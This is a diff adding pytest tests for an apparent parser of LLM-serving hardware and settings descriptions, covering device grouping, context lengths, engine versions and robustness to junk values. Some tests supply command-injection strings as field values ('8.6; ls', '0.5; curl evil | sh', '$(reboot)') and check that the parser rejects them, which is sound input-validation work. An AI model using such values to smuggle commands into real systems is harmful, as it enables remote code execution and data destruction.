@@ -234,3 +234,139 @@ def test_patch_takes_an_answer_back():
     stated = {"format": {"family": "gguf", "type": None}, "traffic": {"concurrency": 4}}
     assert apply_patch(stated, {"format": None, "traffic.concurrency": 2}) == {"traffic": {"concurrency": 2}}
     assert stated["traffic"]["concurrency"] == 4
+
+
+def test_equal_devices_are_counted_together(kb):
+    reading = read({"devices": ["RTX 3090", "2x rtx-3090", {"device": "3090", "count": 3}, "RTX 4090"]}, kb)
+    assert [(d["device"], d["count"]) for d in reading.situation["devices"]] == [("rtx-3090", 6), ("rtx-4090", 1)]
+    sizes = read({"devices": ["A100 40GB", "A100 80GB"]}, kb).situation["devices"]
+    assert [d["memory_gib"] for d in sizes] == [40, 80]
+    own = {"custom": {"memory_gib": 8}}
+    assert read({"devices": [own, own]}, kb).situation["devices"][0]["count"] == 2
+
+
+def test_a_processor_beside_a_card_is_the_machines(kb):
+    reading = read({"devices": ["rtx-4090", "Ryzen 9 9950X"]}, kb)
+    assert [d["device"] for d in reading.situation["devices"]] == ["rtx-4090"]
+    assert reading.situation["host"]["cpu"] == "ryzen-9-9950x"
+    assert read(reading.stated, kb).situation == reading.situation
+    named = read({"devices": ["rtx-4090", "Ryzen 9 9950X"], "host": {"cpu": "xeon-6980p"}}, kb)
+    assert named.situation["host"]["cpu"] == "xeon-6980p"
+    alone = read({"devices": ["Ryzen 9 9950X"]}, kb)
+    assert [d["device"] for d in alone.situation["devices"]] == ["ryzen-9-9950x"]
+
+
+def test_own_devices_are_read_with_care(kb):
+    own = {"memory_gib": "16", "arch": "SM86", "compute_capability": 8.6, "vendor": "nvidia", "bandwidth_gbs": "448"}
+    custom = read({"devices": [{"custom": own}]}, kb).situation["devices"][0]["custom"]
+    assert custom == {
+        "memory_gib": 16, "arch": "sm_86", "compute_capability": "8.6", "vendor": "nvidia", "bandwidth_gbs": 448,
+    }  # fmt: skip
+    broken = read({"devices": [{"custom": {"memory_gib": 16, "compute_capability": "8.6; ls"}}]}, kb)
+    assert [p.path for p in broken.problems] == ["devices.0.custom.compute_capability"]
+    assert "compute_capability" not in broken.situation["devices"][0]["custom"]
+    assert not read({"devices": [{"custom": {"vendor": "nvidia"}}]}, kb).situation["devices"]
+
+
+def test_a_version_stands_in_commands_so_nothing_else_passes(kb):
+    said = {
+        "vLLM": "0.33.0",
+        "llama.cpp": "b11413",
+        "sglang": "0.5; curl evil | sh",
+        "lmdeploy": "$(reboot)",
+        "nobody": "1",
+    }
+    reading = read({"optional": {"engine_versions": said}}, kb)
+    assert reading.situation["optional"]["engine_versions"] == {"vllm": "0.33.0", "llama-cpp": "b11413"}
+    texts = {p.path: p.text for p in reading.problems}
+    assert texts == {
+        "optional.engine_versions.sglang": "problem.not-a-version",
+        "optional.engine_versions.lmdeploy": "problem.not-a-version",
+        "optional.engine_versions.nobody": "problem.unknown-engine",
+    }
+    assert read({"optional": {"engine_versions": {"vllm": 0.33}}}, kb).situation["optional"]["engine_versions"] == {
+        "vllm": "0.33"
+    }
+
+
+def test_a_request_is_at_least_as_long_as_its_parts(kb):
+    long = read({"context": {"input": 60_000, "output": 2000}}, kb)
+    assert not long.problems and long.situation["context"]["tokens"] == 65_536
+    short = read({"context": {"tokens": 7, "input": 2000, "output": 500}}, kb)
+    assert [(p.path, p.text, p.params["sum"]) for p in short.problems] == [
+        ("context.tokens", "problem.below-parts", 2500)
+    ]
+    for said in (
+        {"tokens": 3000},
+        {"tokens": 4096, "input": 4000},
+        {"input": 32_768},
+        {"output": 100_000},
+        {"tokens": 1},
+    ):
+        context = read({"context": said}, kb).situation["context"]
+        assert context["input"] + context["output"] <= max(2, context["tokens"]), said
+
+
+def test_nothing_that_stands_in_a_field_raises(kb):
+    junk = [
+        None,
+        True,
+        -1,
+        1e308,
+        10**400,
+        float("nan"),
+        "",
+        "\ud800",
+        "x" * 400,
+        [],
+        {},
+        [[]],
+        {"kind": []},
+        {1: 2},
+        (1,),
+    ]
+    whole = {
+        "devices": [{"device": "rtx-3090", "count": 2, "memory_gib": 24}, {"custom": {"memory_gib": 8, "arch": "x"}}],
+        "host": {"os": "linux", "cpu": "x", "ram_gib": 8}, "links": {"within": "pcie"}, "nodes": 2,
+        "model": {"id": "x"}, "format": {"family": "gguf", "type": "x"},
+        "settings": {"kv": "q8_0", "layout": {"tp": 2}, "offload": "no"},
+        "context": {"tokens": 1}, "traffic": {"mode": "online"}, "needs": ["lora"], "already": "vllm",
+        "serving": "team",
+        "optional": {"exposure": "lan", "cost": {"watts": 3}, "engine_versions": {"vllm": "1"}},
+    }  # fmt: skip
+
+    def places(value, way=()):
+        if way:
+            yield way
+        for key in value if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ():
+            yield from places(value[key], (*way, key))
+
+    for way in places(whole):
+        for odd in junk:
+            data = json.loads(json.dumps(whole))
+            here = data
+            for step in way[:-1]:
+                here = here[step]
+            here[way[-1]] = odd
+            reading = read(data, kb)
+            text = json.dumps(
+                [reading.situation, [p.plain() for p in reading.problems]], allow_nan=False, ensure_ascii=False
+            )
+            text.encode()  # what is printed can be printed
+            again, _ = from_fragment(fragment(reading.stated))
+            assert read(again, kb).situation == reading.situation, (way, odd)
+
+
+def test_the_usual_length_is_no_more_than_the_model_reads(kb):
+    small = read({"devices": ["rtx-3090"], "model": "llama-2-7b"}, kb)
+    assert small.situation["context"]["tokens"] == kb.models["llama-2-7b"]["context"]["native"] == 4096
+    assert {"id": "context-tokens", "path": "context.tokens", "value": 4096} in small.assumptions
+    assert read({"devices": ["rtx-3090"], "model": "qwen3-8b"}, kb).situation["context"]["tokens"] == 32_768
+
+
+def test_a_size_that_is_another_card_names_that_card(kb):
+    devices = read({"devices": [{"device": "a100", "memory_gib": 40}, {"device": "rtx-3060", "memory_gib": 8}]}, kb)
+    assert [(d["device"], d["memory_gib"]) for d in devices.situation["devices"]] == [
+        ("a100-40gb", 40), ("rtx-3060-8gb", 8),
+    ]  # fmt: skip
+    assert not devices.problems
